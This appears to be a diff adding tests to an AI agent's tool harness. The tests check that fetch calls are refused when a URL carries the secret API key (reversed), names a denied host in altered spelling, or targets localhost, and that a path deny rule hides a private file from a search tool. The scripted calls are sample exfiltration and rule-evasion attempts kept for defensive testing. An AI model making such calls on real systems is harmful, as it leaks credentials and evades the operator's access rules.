@@ -95,3 +95,42 @@ async def test_the_instructions_of_a_folder_come_with_the_first_file_of_it(tmp_p
     told = [str(request.messages).count("Mind the api.") for request in server.requests]
     assert told == [0, 1, 1]
     assert prefix_breaks(server.requests) == []
+
+
+@pytest.mark.server
+async def test_no_address_holds_a_secret_of_the_settings_or_a_host_that_a_rule_denies(
+    tmp_path: Path, home: Path
+) -> None:
+    key = "sk-Live-51HxYz0aBcDeF"
+    config = user_folders(os.environ).config
+    config.mkdir(parents=True)
+    (config / "rules.toml").write_text('[[rule]]\ndecision = "deny"\nhost = "*.denied.example"\n')
+    replies = [
+        call("fetch", url=f"https://a.example/{key[::-1]}"),
+        call("fetch", url="https://A.DENIED.example./"),
+        call("fetch", url="http://127.0.0.1:1/"),
+        say("Done."),
+    ]
+    with ScriptedServer(replies) as server:
+        settings = Settings(
+            model_url=server.url, model="m", api_key=key, workspace=str(tmp_path), permission="full"
+        )
+        await said(settings)
+
+    told = [str(request.json["messages"][-1]["content"]) for request in server.requests[1:]]
+    assert "The address holds a secret value" in told[0]
+    assert "a rule forbids it" in told[1]
+    assert "127.0.0.1, which is not on the public internet" in told[2]
+
+
+@pytest.mark.server
+async def test_a_file_tool_is_held_to_a_rule_while_it_opens(tmp_path: Path, home: Path) -> None:
+    (tmp_path / "private").mkdir()
+    (tmp_path / "private" / "a.txt").write_text("the words")
+    config = user_folders(os.environ).config
+    config.mkdir(parents=True)
+    (config / "rules.toml").write_text('[[rule]]\ndecision = "deny"\npath = "private/**"\n')
+    with ScriptedServer([call("find_text", pattern="word"), say("Done.")]) as server:
+        await said(Settings(model_url=server.url, model="m", workspace=str(tmp_path)))
+
+    assert "the words" not in str(server.requests[1].json)
